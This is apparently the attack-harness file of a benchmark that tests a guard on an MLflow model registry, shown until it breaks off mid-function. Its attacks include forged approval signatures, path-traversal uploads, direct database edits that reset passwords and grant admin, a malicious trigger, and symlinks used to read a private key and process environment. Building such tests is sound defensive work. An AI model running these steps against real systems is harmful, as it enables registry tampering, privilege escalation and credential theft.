"""What an attacker tries, as the attacker: his own Unix account, three stolen logins, write access to MLflow's store.

    python attacks.py NAME < context.json

Prints one JSON object {did, told}: whether the act itself went through (a lock further down may still hold), and what answered.
The benchmark `guard_attacks` sets the stage, runs one after the other, and looks at what the gateway then answers.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

API = "/api/2.0/mlflow"
FILES = "/api/2.0/mlflow-artifacts/artifacts"


class Stopped(Exception):
    """The act itself was refused; the text says by whom."""


@dataclass(frozen=True)
class Attack:
    name: str
    title: str
    below: bool  # below HTTP: database, files, processes
    act: Callable[[Attacker], str]
    setting: str = ""  # what the stage does meanwhile: "approve" (a person approves `racing`), "frozen", "restart", "replica"


ATTACKS: dict[str, Attack] = {}


def attack(title: str, *, below: bool = False, setting: str = "") -> Callable[[Callable[[Attacker], str]], None]:
    def keep(act: Callable[[Attacker], str]) -> None:
        ATTACKS[act.__name__] = Attack(act.__name__, title, below, act, setting)

    return keep


class Attacker:
    """Three logins, the store's folder, and the numbers of the versions on the stage."""

    def __init__(self, context: dict[str, Any]) -> None:
        import httpx

        self.context = context
        self.name: str = context["problem"]
        self.v: dict[str, str] = context["versions"]
        self.store = Path(context["store"])
        self.data = self.store.parent
        self.url: str = context["registry"]
        self.passwords: dict[str, str] = context["passwords"]
        self.http = httpx.Client(base_url=self.url, timeout=30, trust_env=False)

    # --- over HTTP
    def ask(self, user: str, method: str, path: str, **options: Any) -> Any:
        """The answer. Raises Stopped with its message when it is 400 or above."""
        answer = self.http.request(method, path, auth=(user, self.passwords[user]), **options)
        if answer.status_code >= 400:
            try:
                words = answer.json().get("message", answer.text)
            except ValueError:
                words = answer.text
            raise Stopped(f"{answer.status_code}: {str(words)[:160]}")
        return answer

    def post(self, user: str, path: str, **body: Any) -> Any:
        return self.ask(user, "POST", API + path, json=body)

    def alias(self, user: str, alias: str, version: Any, api: str = API) -> str:
        body = {"name": self.name, "alias": alias, "version": version}
        self.ask(user, "POST", f"{api}/registered-models/alias", json=body)
        return f"{alias} set to {version}"

    def tag(self, user: str, version: str, key: str, value: str) -> str:
        self.post(user, "/model-versions/set-tag", name=self.name, version=version, key=key, value=value)
        return f"{key} set on {version}"

    def model_tag(self, user: str, key: str, value: str) -> str:
        self.post(user, "/registered-models/set-tag", name=self.name, key=key, value=value)
        return f"{key} set"

    def each(self, users: tuple[str, ...], act: Callable[[str], str]) -> str:
        """The same by several logins; Stopped only when all were."""
        words = []
        for user in users:
            try:
                return act(user)
            except Stopped as stopped:
                words.append(f"{user} {stopped}")
        raise Stopped(" | ".join(words))

    # --- in the database
    def sql(self, *statements: tuple[str, tuple[Any, ...]], base: str = "mlflow.db") -> str:
        """Run them in one transaction; every one has to touch a row."""
        try:
            with sqlite3.connect(self.store / base, timeout=20) as connection:
                for statement, values in statements:
                    if connection.execute(statement, values).rowcount == 0:
                        raise RuntimeError(f"touched no row: {statement} {values}")
            connection.close()
        except sqlite3.OperationalError as error:
            raise Stopped(f"database: {error}") from None
        return f"{len(statements)} rows written"

    def read(self, statement: str, *values: Any) -> list[tuple[Any, ...]]:
        connection = sqlite3.connect(self.store / "mlflow.db", timeout=20)
        try:
            return connection.execute(statement, values).fetchall()
        finally:
            connection.close()

    def known(self, version: str, key: str) -> str:
        """A tag's value on a version."""
        found = self.read("select value from model_version_tags where name=? and version=? and key=?", self.name, version, key)
        if not found:
            raise RuntimeError(f"version {version} has no tag {key}")
        return str(found[0][0])

    def set_known(self, version: str, key: str, value: str) -> tuple[str, tuple[Any, ...]]:
        return (
            "insert into model_version_tags(key, value, name, version, workspace) select ?, ?, ?, ?, workspace"
            " from model_versions where name=? and version=? on conflict do update set value=excluded.value",
            (key, value, self.name, version, self.name, version),
        )

    def set_model(self, key: str, value: str) -> tuple[str, tuple[Any, ...]]:
        return (
            "insert into registered_model_tags(key, value, name, workspace) select ?, ?, name, workspace from registered_models"
            " where name=? on conflict do update set value=excluded.value",
            (key, value, self.name),
        )

    def set_alias(self, version: str) -> tuple[str, tuple[Any, ...]]:
        return (
            "update registered_model_aliases set version=? where name=? and alias='champion'",
            (int(version), self.name),
        )

    def insist(self, statement: str) -> str:
        """The blocked version as champion under this statement, again and again: the steward puts it right each second."""
        end, times = time.monotonic() + 6, 0
        while time.monotonic() < end:
            self.sql(self.set_known(self.v["blocked"], "release", statement), self.set_alias(self.v["blocked"]))
            times += 1
            time.sleep(0.1)
        return f"written {times} times"

    # --- in the files
    def folder(self, version: str) -> Path:
        """Where a version's bytes lie."""
        source = self.read("select source from model_versions where name=? and version=?", self.name, version)[0][0]
        model = str(source).rsplit("/", 1)[-1] if str(source).startswith("models:/") else None
        if model is None:
            raise RuntimeError(f"version {version} comes from {source}")
        location = self.read("select artifact_location from logged_models where model_id=?", model)[0][0]
        return self.store / "artifacts" / str(location).partition(":")[2].lstrip("/")

    def artifact(self, version: str) -> str:
        return str(self.folder(version).relative_to(self.store / "artifacts"))

    def overwrite(self, version: str, data: bytes | None = None) -> str:
        """Other bytes under the same name: a model that answers, and answers wrongly."""
        head = self.folder(version) / "model.json"
        card = json.loads(head.read_bytes())
        card["thresholds"] = [1e-9, 1.0]
        fresh = data if data is not None else json.dumps(card).encode()
        try:
            head.write_bytes(fresh)
        except PermissionError as error:
            raise Stopped(f"file: {error.strerror}") from None
        return f"model.json of version {version} overwritten"

    def openly(self, path: Path) -> bytes:
        """A file's bytes. Raises Stopped when the account may not."""
        try:
            return path.read_bytes()
        except OSError as error:
            raise Stopped(f"{path.name}: {error.strerror}") from None

    def write(self, path: Path, data: bytes) -> str:
        try:
            path.write_bytes(data)
        except OSError as error:
            raise Stopped(f"{path.name}: {error.strerror}") from None
        return f"{path.name} written"


ALL = ("trainer", "approver", "admin")


def signed(record: dict[str, Any], kind: str, private: bytes) -> str:
    """A DSSE envelope as the project makes it, with whatever key."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

    payload = json.dumps(record, sort_keys=True, separators=(",", ":")).encode()
    key = Ed25519PrivateKey.from_private_bytes(private)
    public = key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
    head = b"DSSEv1 %d %s %d %s" % (len(kind), kind.encode(), len(payload), payload)
    signature = {
        "key": hashlib.sha256(public).hexdigest()[:16],
        "algorithm": "ed25519",
        "bytes": base64.b64encode(key.sign(head)).decode(),
    }
    return json.dumps({"payload": base64.b64encode(payload).decode(), "type": kind, "signatures": [signature]})


def inside(envelope: str) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(base64.b64decode(json.loads(envelope)["payload"]))
    return found


def kind_of(word: str) -> str:
    return f"application/vnd.truing.{word}.v1+json"


# --- champion over HTTP -------------------------------------------------------------------------------------------------------


@attack("champion := blocked version, REST 2.0, each login")
def alias_blocked(a: Attacker) -> str:
    return a.each(ALL, lambda user: a.alias(user, "champion", a.v["blocked"]))


@attack("champion := unapproved version, the page's own route")
def alias_ajax(a: Attacker) -> str:
    return a.each(ALL, lambda user: a.alias(user, "champion", a.v["pending"], "/ajax-api/2.0/mlflow"))


@attack("champion := rejected version by MlflowClient")
def alias_client(a: Attacker) -> str:
    from mlflow import MlflowClient
    from mlflow.exceptions import MlflowException

    os.environ.update(MLFLOW_TRACKING_USERNAME="approver", MLFLOW_TRACKING_PASSWORD=a.passwords["approver"])
    try:
        MlflowClient(a.url, a.url).set_registered_model_alias(a.name, "champion", a.v["rejected"])
    except MlflowException as error:
        raise Stopped(str(error)[:160]) from None
    return "champion set"


@attack("alias in other cases, look-alike letters, blanks")
def alias_spelling(a: Attacker) -> str:
    words = ("Champion", "CHAMPION", " champion", "champion ", "ｃhampion", "champi0n", "Champion\u200b")
    stopped = []
    for word in words:
        try:
            stopped.append(f"taken: {a.alias('approver', word, a.v['blocked'])}")
            return stopped[-1]
        except Stopped as refusal:
            stopped.append(str(refusal))
    raise Stopped(stopped[0])


@attack("champion with the version as number, padded, signed")
def alias_number(a: Attacker) -> str:
    number = int(a.v["blocked"])
    words = []
    for version in (number, float(number), f"0{number}", f" {number}", f"+{number}"):
        try:
            return a.alias("admin", "champion", version)
        except Stopped as refusal:
            words.append(str(refusal))
    raise Stopped(words[0])


@attack("champion deleted, so that something else may fill the gap")
def alias_deleted(a: Attacker) -> str:
    query = {"name": a.name, "alias": "champion"}
    return a.each(ALL, lambda user: str(a.ask(user, "DELETE", f"{API}/registered-models/alias", json=query).status_code))


@attack("champion := unapproved version, path and method tricks")
def route_tricks(a: Attacker) -> str:
    body = {"name": a.name, "alias": "champion", "version": a.v["pending"]}
    paths = (
        "//api/2.0/mlflow/registered-models/alias",
        "/api/2.0/mlflow/../mlflow/registered-models/alias",
        "/api/2.0/mlflow/registered-models/alias/",
        "/api/2.0/mlflow/registered-models%2Falias",
        "/API/2.0/mlflow/registered-models/alias",
        "/api/3.0/mlflow/registered-models/alias",
    )
    words = []
    for path in paths:
        for method, headers in (("POST", {}), ("PUT", {}), ("GET", {"X-HTTP-Method-Override": "POST"})):
            try:
                a.ask("admin", method, path, json=body, headers=headers)
                words.append(f"{method} {path} was answered")
            except Stopped as refusal:
                words.append(str(refusal))
            now = a.read("select version from registered_model_aliases where name=? and alias='champion'", a.name)
            if str(now[0][0]) == a.v["pending"]:
                return f"{method} {path} moved it"
    raise Stopped(words[0])


@attack("body encoded twice, as old clients did")
def alias_twice_encoded(a: Attacker) -> str:
    body = json.dumps(json.dumps({"name": a.name, "alias": "champion", "version": a.v["blocked"]}))
    a.ask("admin", "POST", f"{API}/registered-models/alias", content=body, headers={"Content-Type": "application/json"})
    return "taken"


@attack("stage transition to Production")
def stage(a: Attacker) -> str:
    return a.each(
        ALL,
        lambda user: str(
            a.post(
                user, "/model-versions/transition-stage", name=a.name, version=a.v["blocked"], stage="Production"
            ).status_code
        ),
    )


@attack("GraphQL mutation")
def graphql(a: Attacker) -> str:
    query = 'mutation { setRegisteredModelAlias(name: "adult", alias: "champion", version: "4") { name } }'
    a.ask("admin", "POST", "/graphql", json={"query": query, "operationName": None, "variables": {}})
    return "taken"


@attack("the server's own token, as a job of MLflow would send it")
def internal_token(a: Attacker) -> str:
    for password in ("", "internal", "mlflow", "None"):
        answer = a.http.post(
            f"{API}/registered-models/alias",
            auth=("__internal__", password),
            headers={"X-MLflow-Internal": "true", "X-Forwarded-User": "steward", "Remote-User": "steward"},
            json={"name": a.name, "alias": "champion", "version": a.v["blocked"]},
        )
        if answer.status_code < 400:
            return "taken"
    raise Stopped(f"{answer.status_code}")


# --- verdicts, approvals, releases over HTTP ----------------------------------------------------------------------------------


@attack("blocked version approved with the stolen approver's login")
def approve_blocked(a: Attacker) -> str:
    a.tag("approver", a.v["blocked"], "approval.reason", "trust me")
    return a.tag("approver", a.v["blocked"], "approval", "approved")


@attack("unapproved version approved by its own trainer, and by the admin")
def approve_self(a: Attacker) -> str:
    return a.each(("trainer", "admin"), lambda user: a.tag(user, a.v["pending"], "approval", "approved"))


@attack("approval brought along inside create_model_version")
def approve_at_birth(a: Attacker) -> str:
    source = a.read("select source from model_versions where name=? and version=?", a.name, a.v["blocked"])[0][0]
    tags = [{"key": "approval", "value": "approved"}, {"key": "verdict", "value": a.known(a.v["good"], "verdict")}]
    return str(a.post("trainer", "/model-versions/create", name=a.name, source=source, tags=tags).status_code)


@attack("forged approval stamp as a tag")
def stamp_tag(a: Attacker) -> str:
    stamp = a.known(a.v["good"], "approval.stamp")
    return a.each(ALL, lambda user: a.tag(user, a.v["pending"], "approval.stamp", stamp))


@attack("key spelled so that it could be taken for a stamp")
def stamp_lookalike(a: Attacker) -> str:
    words = []
    for key in ("Approval", "approval ", "APPROVAL.STAMP", "ａpproval", "approval.stamp\n"):
        try:
            return a.tag("trainer", a.v["blocked"], key, "approved")
        except Stopped as refusal:
            words.append(str(refusal))
    raise Stopped(words[0])


@attack("verdict of the good version replayed onto the blocked one")
def verdict_replay(a: Attacker) -> str:
    verdict = a.known(a.v["good"], "verdict")
    return a.each(ALL, lambda user: a.tag(user, a.v["blocked"], "verdict", verdict))


@attack("verdict signed with a key of the attacker's own")
def verdict_forged(a: Attacker) -> str:
    record = inside(a.known(a.v["blocked"], "verdict")) | {"outcome": "pass", "clauses": []}
    return a.each(ALL, lambda user: a.tag(user, a.v["blocked"], "verdict", signed(record, kind_of("verdict"), os.urandom(32))))


@attack("release statement of the good version replayed onto the blocked one")
def release_replay(a: Attacker) -> str:
    statement = a.known(a.v["good"], "release")
    return a.each(ALL, lambda user: a.tag(user, a.v["blocked"], "release", statement))


@attack("policy of the attacker's own accepted with the stolen approver's login")
def policy_accept(a: Attacker) -> str:
    return a.model_tag("approver", "policy.accepted", "0" * 64)


@attack("policy proposed by somebody who is not the steward")
def policy_propose(a: Attacker) -> str:
    return a.each(ALL, lambda user: a.model_tag(user, "policy.proposed", "1" * 64))


@attack("rollback asked for without an approver's login")
def rollback_ask(a: Attacker) -> str:
    a.each(("trainer", "admin"), lambda user: a.model_tag(user, "rollback.reason", "please"))
    return a.each(("trainer", "admin"), lambda user: a.model_tag(user, "rollback.to", a.v["old"]))


@attack("standing approval given without an approver's login")
def standing_ask(a: Attacker) -> str:
    value = json.dumps({"days": 365, "max_drift": 1.0, "per_day": 99})
    return a.each(("trainer", "admin"), lambda user: a.model_tag(user, "standing", value))


# --- versions, users, files over HTTP -----------------------------------------------------------------------------------------


@attack("version copied from the blocked one (copy_model_version)")
def copied(a: Attacker) -> str:
    source = f"models:/{a.name}/{a.v['blocked']}"
    return a.each(ALL, lambda user: str(a.post(user, "/model-versions/create", name=a.name, source=source).status_code))


@attack("model or version deleted, to be made again under the same number")
def deleted(a: Attacker) -> str:
    words = []
    for path, body in (
        ("/model-versions/delete", {"name": a.name, "version": a.v["old"]}),
        ("/registered-models/delete", {"name": a.name}),
        ("/logged-models/m-0", {}),
    ):
        for user in ALL:
            try:
                return str(a.ask(user, "DELETE", API + path, json=body).status_code)
            except Stopped as refusal:
                words.append(str(refusal))
    raise Stopped(words[0])


@attack("model renamed, another put in its place")
def renamed(a: Attacker) -> str:
    return a.each(ALL, lambda user: str(a.post(user, "/registered-models/rename", name=a.name, new_name="was").status_code))


@attack("payload tag that names other bytes at registration")
def payload_claimed(a: Attacker) -> str:
    experiment = a.ask("trainer", "GET", f"{API}/experiments/get-by-name", params={"experiment_name": a.name}).json()
    made = a.post("trainer", "/logged-models", experiment_id=experiment["experiment"]["experiment_id"], name="x").json()
    info = made["model"]["info"]
    root = info["artifact_uri"].partition(":")[2].lstrip("/")
    a.ask("trainer", "PUT", f"{FILES}/{root}/model.json", content=b"{}")
    ready = {"model_id": info["model_id"], "status": "LOGGED_MODEL_READY"}
    a.ask("trainer", "PATCH", f"{API}/logged-models/{info['model_id']}", json=ready)
    tags = [{"key": "payload", "value": a.known(a.v["good"], "payload")}]
    source = f"models:/{info['model_id']}"
    body = {"name": a.name, "source": source, "model_id": info["model_id"], "tags": tags}
    return str(a.post("trainer", "/model-versions/create", **body).status_code)


@attack("artifact overwritten through the server before approval")
def put_before(a: Attacker) -> str:
    path = f"{FILES}/{a.artifact(a.v['pending'])}/model.json"
    return a.each(ALL, lambda user: str(a.ask(user, "PUT", path, content=b"{}").status_code))


@attack("artifact overwritten through the server after release")
def put_after(a: Attacker) -> str:
    path = f"{FILES}/{a.artifact(a.v['good'])}/head.safetensors"
    return a.each(ALL, lambda user: str(a.ask(user, "PUT", path, content=b"evil").status_code))


@attack("artifact deleted through the server")
def delete_artifact(a: Attacker) -> str:
    path = f"{FILES}/{a.artifact(a.v['good'])}"
    return a.each(ALL, lambda user: str(a.ask(user, "DELETE", path).status_code))


@attack("upload that climbs out of its folder")
def climb(a: Attacker) -> str:
    words = []
    root = a.artifact(a.v["good"])
    for path in (
        f"{root}/../../x/model.json",
        f"{root}/%2e%2e/%2e%2e/y",
        "../guard/audit.jsonl",
        "/etc/passwd",
        f"0/../{root}/model.json",
    ):
        try:
            return str(a.ask("trainer", "PUT", f"{FILES}/{path}", content=b"evil").status_code)
        except Stopped as refusal:
            words.append(str(refusal))
    raise Stopped(words[0])


@attack("multipart and presigned uploads")
def multipart(a: Attacker) -> str:
    words = []
    for path in ("mpu/create", "mpu/complete", "mpu/abort"):
        try:
            body = {"path": "model.json", "num_parts": 1, "upload_id": "u", "parts": []}
            return str(
                a.ask("trainer", "POST", f"/api/2.0/mlflow-artifacts/{path}/{a.artifact(a.v['good'])}", json=body).status_code
            )
        except Stopped as refusal:
            words.append(str(refusal))
    raise Stopped(words[0])


@attack("admin gives the steward another password, and acts as steward")
def admin_password(a: Attacker) -> str:
    a.ask("admin", "PATCH", f"{API}/users/update-password", json={"username": "steward", "password": "a-long-password"})
    a.passwords["steward"] = "a-long-password"
    return a.alias("steward", "champion", a.v["blocked"])


@attack("admin makes a second approver of his own")
def admin_user(a: Attacker) -> str:
    a.post("admin", "/users/create", username="approver9", password="a-long-password")
    a.passwords["approver9"] = "a-long-password"
    return a.tag("approver9", a.v["pending"], "approval", "approved")


@attack("admin grants himself roles and permissions")
def admin_roles(a: Attacker) -> str:
    a.post("admin", "/roles/create", role_name="approver", workspace="default")
    return a.tag("admin", a.v["pending"], "approval", "approved")


@attack("approval and overwrite at the same moment, through the server", setting="approve")
def race_http(a: Attacker) -> str:
    path = f"{FILES}/{a.artifact(a.v['racing'])}/model.json"
    end, taken, words = time.monotonic() + 4, 0, ""
    while time.monotonic() < end:
        try:
            a.ask("trainer", "PUT", path, content=b"{}")
            taken += 1
        except Stopped as refusal:
            words = str(refusal)
    if not taken:
        raise Stopped(words)
    return f"{taken} overwrites taken"


@attack("control topic asks for a release")
def control_topic(a: Attacker) -> str:
    from kafka import KafkaProducer

    producer = KafkaProducer(bootstrap_servers=a.context["kafka"])
    for run in ("release", "gate", "rollback"):
        body = {"type": "run.requested", "run": run, "problem": a.name, "version": a.v["blocked"]}
        producer.send("truing-control", json.dumps(body).encode()).get(10)
    said = {"type": "model.released", "problem": a.name, "version": a.v["blocked"], "sequence": 99}
    producer.send("truing-control", json.dumps(said).encode()).get(10)
    producer.close()
    return "4 messages sent"


# --- below HTTP: the database -------------------------------------------------------------------------------------------------


@attack("database: champion points at the blocked version", below=True)
def db_alias_blocked(a: Attacker) -> str:
    return a.sql(a.set_alias(a.v["blocked"]))


@attack("database: champion points at the unapproved version", below=True)
def db_alias_pending(a: Attacker) -> str:
    return a.sql(a.set_alias(a.v["pending"]))


@attack("database: champion points at an old signed release", below=True)
def db_downgrade(a: Attacker) -> str:
    return a.sql(a.set_alias(a.v["old"]))


@attack("database: the same, against a gateway that starts with nothing", below=True, setting="replica")
def db_downgrade_fresh(a: Attacker) -> str:
    return a.sql(a.set_alias(a.v["old"]))


@attack("database: old statement under the present champion", below=True)
def db_old_statement(a: Attacker) -> str:
    return a.sql(a.set_known(a.v["good"], "release", a.known(a.v["old"], "release")))


@attack("database: statement of the good version on the blocked one, champion moved", below=True)
def db_statement_moved(a: Attacker) -> str:
    statement = a.known(a.v["good"], "release")
    return a.sql(a.set_known(a.v["blocked"], "release", statement), a.set_alias(a.v["blocked"]))


@attack("database: statement signed with the attacker's own key", below=True)
def db_statement_forged(a: Attacker) -> str:
    record = inside(a.known(a.v["good"], "release")) | {
        "version": a.v["blocked"],
        "payload": a.known(a.v["blocked"], "payload"),
        "sequence": 999,
    }
    forged = signed(record, kind_of("release"), os.urandom(32))
    return a.sql(a.set_known(a.v["blocked"], "release", forged), a.set_alias(a.v["blocked"]))


@attack("database: approval of the good version on the unapproved one", below=True)
def db_approval_moved(a: Attacker) -> str:
    stamp = a.known(a.v["good"], "approval.stamp")
    return a.sql(a.set_known(a.v["pending"], "approval.stamp", stamp), a.set_known(a.v["pending"], "approval", "approved"))


@attack("database: approval signed with the attacker's own key", below=True)
def db_approval_forged(a: Attacker) -> str:
    record = inside(a.known(a.v["good"], "approval.stamp")) | {
        "version": a.v["pending"],
        "verdict": hashlib.sha256(base64.b64decode(json.loads(a.known(a.v["pending"], "verdict"))["payload"])).hexdigest(),
    }
    forged = signed(record, kind_of("approval"), os.urandom(32))
    return a.sql(a.set_known(a.v["pending"], "approval.stamp", forged), a.set_known(a.v["pending"], "approval", "approved"))


@attack("database: the revoked version's old approval put back", below=True)
def db_revoked_back(a: Attacker) -> str:
    stamp = a.context["stamps"]["revoked"]  # read from the database while it still stood
    return a.sql(a.set_known(a.v["revoked"], "approval.stamp", stamp), a.set_known(a.v["revoked"], "approval", "approved"))


@attack("database: verdict of the good version on the blocked one, with its approval", below=True)
def db_verdict_moved(a: Attacker) -> str:
    good, blocked = a.v["good"], a.v["blocked"]
    return a.sql(
        a.set_known(blocked, "verdict", a.known(good, "verdict")),
        a.set_known(blocked, "verdict.outcome", "pass"),
        a.set_known(blocked, "approval.stamp", a.known(good, "approval.stamp")),
        a.set_known(blocked, "approval", "approved"),
        a.set_known(blocked, "payload", a.known(good, "payload")),
    )


@attack("database: trainer's stamp changed, so that he may approve himself", below=True)
def db_trainer(a: Attacker) -> str:
    a.sql(a.set_known(a.v["pending"], "trainer", "nobody"))
    return a.tag("trainer", a.v["pending"], "approval", "approved")


@attack("database: another policy accepted", below=True)
def db_policy(a: Attacker) -> str:
    return a.sql(a.set_model("policy.accepted", "2" * 64), a.set_model("policy.proposed", "2" * 64))


@attack("database: anchor moved to the blocked version", below=True)
def db_anchor(a: Attacker) -> str:
    return a.sql(a.set_model("anchor", a.v["blocked"]))


@attack("database: a rollback that nobody asked for", below=True)
def db_rollback(a: Attacker) -> str:
    return a.sql(
        a.set_model("rollback.to", a.v["old"]),
        a.set_model("rollback.reason", "complaints"),
        a.set_model("rollback.by", "approver"),
        a.set_model("rollback.at", repr(time.time())),
    )


@attack("database: freeze lifted behind an approved version's back", below=True, setting="frozen")
def db_thaw(a: Attacker) -> str:
    return a.sql(a.set_model("frozen", "false"))


@attack("database: good version's source points at the blocked one's files", below=True, setting="replica")
def db_source(a: Attacker) -> str:
    rows = a.read("select source, storage_location from model_versions where name=? and version=?", a.name, a.v["blocked"])
    return a.sql(
        (
            "update model_versions set source=?, storage_location=? where name=? and version=?",
            (*rows[0], a.name, int(a.v["good"])),
        )
    )


@attack("database: logged model's folder moved out of the store", below=True)
def db_location(a: Attacker) -> str:
    source = a.read("select source from model_versions where name=? and version=?", a.name, a.v["good"])[0][0]
    goal = "mlflow-artifacts:/../../guard"
    return a.sql(
        ("update logged_models set artifact_location=? where model_id=?", (goal, str(source).rsplit("/", 1)[-1])),
        ("update model_versions set storage_location=? where name=? and version=?", (goal, a.name, int(a.v["good"]))),
    )


@attack("database: version numbers of good and blocked exchanged", below=True)
def db_numbers(a: Attacker) -> str:
    good, blocked = int(a.v["good"]), int(a.v["blocked"])
    steps = []
    for table in ("model_versions", "model_version_tags"):
        for before, after in ((good, 9001), (blocked, good), (9001, blocked)):
            steps.append((f"update {table} set version=? where name=? and version=?", (after, a.name, before)))  # noqa: S608
    connection = sqlite3.connect(a.store / "mlflow.db", timeout=20)
    with connection:
        connection.execute("pragma foreign_keys=off")
        for statement, values in steps:
            connection.execute(statement, values)
    connection.close()
    return "exchanged"


@attack("database: the model deleted and made again, the blocked bytes as version 1", below=True)
def db_recreated(a: Attacker) -> str:
    blocked = int(a.v["blocked"])
    connection = sqlite3.connect(a.store / "mlflow.db", timeout=20)
    with connection:
        connection.execute("pragma foreign_keys=off")
        for table in ("model_version_tags", "model_versions"):
            connection.execute(f"delete from {table} where name=? and version<>?", (a.name, blocked))  # noqa: S608
            connection.execute(f"update {table} set version=1 where name=?", (a.name,))  # noqa: S608
        connection.execute("update registered_model_aliases set version=1 where name=?", (a.name,))
    connection.close()
    return "made again"


@attack("database: champion's row deleted", below=True)
def db_deleted(a: Attacker) -> str:
    return a.sql(("delete from model_versions where name=? and version=?", (a.name, int(a.v["good"]))))


@attack("database: passwords of steward and second approver set in MLflow's table", below=True)
def db_passwords(a: Attacker) -> str:
    from werkzeug.security import generate_password_hash

    mark = generate_password_hash("a-long-password")
    a.sql(
        ("update users set password_hash=? where username='steward'", (mark,)),
        ("update users set password_hash=? where username='approver2'", (mark,)),
        base="auth.db",
    )
    a.passwords |= {"steward": "a-long-password", "approver2": "a-long-password"}
    return a.each(
        ("steward", "approver2"),
        lambda user: (
            a.alias(user, "champion", a.v["blocked"])
            if user == "steward"
            else a.tag(user, a.v["pending"], "approval", "approved")
        ),
    )


@attack("database: trainer made admin in MLflow's table", below=True)
def db_admin(a: Attacker) -> str:
    a.sql(("update users set is_admin=1 where username='trainer'", ()), base="auth.db")
    return a.alias("trainer", "champion", a.v["blocked"])


@attack("database: a trigger that moves champion whenever a tag is written", below=True)
def db_trigger(a: Attacker) -> str:
    connection = sqlite3.connect(a.store / "mlflow.db", timeout=20)
    with connection:
        move = f"update registered_model_aliases set version={int(a.v['blocked'])} where alias='champion'"  # noqa: S608
        connection.execute(f"create trigger evil after update on model_version_tags begin {move}; end")
        connection.execute("update model_version_tags set value=value where name=?", (a.name,))
    connection.close()
    return "planted"


@attack("database: an older copy of it put back", below=True, setting="replica")
def db_restored(a: Attacker) -> str:
    old = Path(a.context["older"])
    source, target = sqlite3.connect(old), sqlite3.connect(a.store / "mlflow.db", timeout=20)
    source.backup(target)
    source.close()
    target.close()
    return "restored"


@attack("database: description that makes the blocked version look passed", below=True)
def db_description(a: Attacker) -> str:
    a.sql(
        (
            "update model_versions set description=? where name=? and version=?",
            ("**pass**: all clauses hold", a.name, int(a.v["blocked"])),
        ),
        a.set_known(a.v["blocked"], "verdict.outcome", "pass"),
        a.set_known(a.v["blocked"], "verdict.reason", "all deciding clauses are inside"),
    )
    return a.tag("approver", a.v["blocked"], "approval", "approved")


@attack("database: times moved, so that an old version looks new", below=True)
def db_clock(a: Attacker) -> str:
    future = int((time.time() + 1e7) * 1000)
    return a.sql(
        (
            "update model_versions set creation_time=?, last_updated_time=? where name=? and version=?",
            (future, future, a.name, int(a.v["old"])),
        ),
        a.set_known(a.v["good"], "approval.at", "1.0"),
    )


@attack("database: steward's head of an earlier hour put back", below=True, setting="replica")
def db_head(a: Attacker) -> str:
    return a.sql(a.set_model("release.head", a.context["heads"]["older"]), a.set_alias(a.v["old"]))


# --- below HTTP: the files ----------------------------------------------------------------------------------------------------


@attack("file: bytes of the serving version overwritten", below=True, setting="replica")
def file_serving(a: Attacker) -> str:
    return a.overwrite(a.v["good"])


@attack("file: bytes overwritten before approval, then approved with the stolen login", below=True)
def file_before(a: Attacker) -> str:
    a.overwrite(a.v["spare"])
    a.tag("approver", a.v["spare"], "approval.reason", "fine")
    return a.tag("approver", a.v["spare"], "approval", "approved")


@attack("file: bytes overwritten again and again around a person's approval", below=True, setting="approve")
def file_race(a: Attacker) -> str:
    path = a.folder(a.v["racing"]) / "model.json"
    right = path.read_bytes()
    card = json.loads(right)
    card["thresholds"] = [1e-9, 1.0]
    wrong = json.dumps(card).encode()
    end, swaps = time.monotonic() + 5, 0
    while time.monotonic() < end:
        path.write_bytes(wrong if swaps % 2 == 0 else right)
        swaps += 1
        time.sleep(0.003)
    path.write_bytes(right)
    return f"{swaps} swaps"


@attack("file: the good version's folder replaced by a link to the blocked one's", below=True, setting="replica")
def file_linked(a: Attacker) -> str:
    folder, other = a.folder(a.v["good"]), a.folder(a.v["blocked"])
    shutil.move(folder, folder.with_name("was"))
    folder.symlink_to(other)
    return "linked"


@attack("file: a link to the registry's key, fetched through the server", below=True)
def file_key_link(a: Attacker) -> str:
    folder = a.folder(a.v["good"])
    goals = (a.data / "keys" / "registry" / "registry", a.data / "guard" / "audit.jsonl", Path("/proc/self/environ"))
    for number, goal in enumerate(goals):
        (folder / f"link{number}").symlink_to(goal)
    got = []
    root = a.artifact(a.v["good"])
    for number in range(len(goals)):
        for path in (f"{FILES}/{root}/link{number}", f"/get-artifact?path=link{number}&run_uuid=0"):
            try:
                got.append(len(a.ask("trainer", "GET", path).content))
            except Stopped as refusal:
                words = str(refusal)
    if got:
        return f"read {got} bytes through links"
    raise Stopped(words)


@attack("file: a linked folder, so that an upload lands in the guard's", below=True)
def file_upload_link(a: Attacker) -> str:
    experiment = a.ask("trainer", "GET", f"{API}/experiments/get-by-name", params={"experiment_name": a.name}).json()
    made = a.post("trainer", "/logged-models", experiment_id=experiment["experiment"]["experiment_id"], name="y").json()
    root = made["model"]["info"]["artifact_uri"].partition(":")[2].lstrip("/")
    folder = a.store / "artifacts" / root
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "sub").symlink_to(a.data / "guard")
    a.ask("trainer", "PUT", f"{FILES}/{root}/sub/auth.ini", content=b"[mlflow]\n")
    if b"database_uri" not in (a.data / "guard" / "auth.ini").read_bytes():
        return "the guard's file was overwritten"
    return "taken"


@attack("file: extra file beside the serving version's", below=True)
def file_extra(a: Attacker) -> str:
    return a.write(a.folder(a.v["good"]) / "extra.json", b"{}")


@attack("file: the unapproved version's folder removed", below=True)
def file_removed(a: Attacker) -> str:
    shutil.rmtree(a.folder(a.v["pending"]))
    return "removed"


# --- below HTTP: processes, keys, other people's folders ----------------------------------------------------------------------


@attack("a second registry without a guard on the same store", below=True)
def second_registry(a: Attacker) -> str:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    environment = os.environ | {"MLFLOW_DISABLE_TELEMETRY": "true", "DO_NOT_TRACK": "true"}
    server = subprocess.Popen(
        [sys.executable, "-m", "mlflow", "server", "--port", str(port), "--workers", "1", "--backend-store-uri",
         f"sqlite:///{a.store / 'mlflow.db'}", "--artifacts-destination", (a.store / "artifacts").as_uri()],
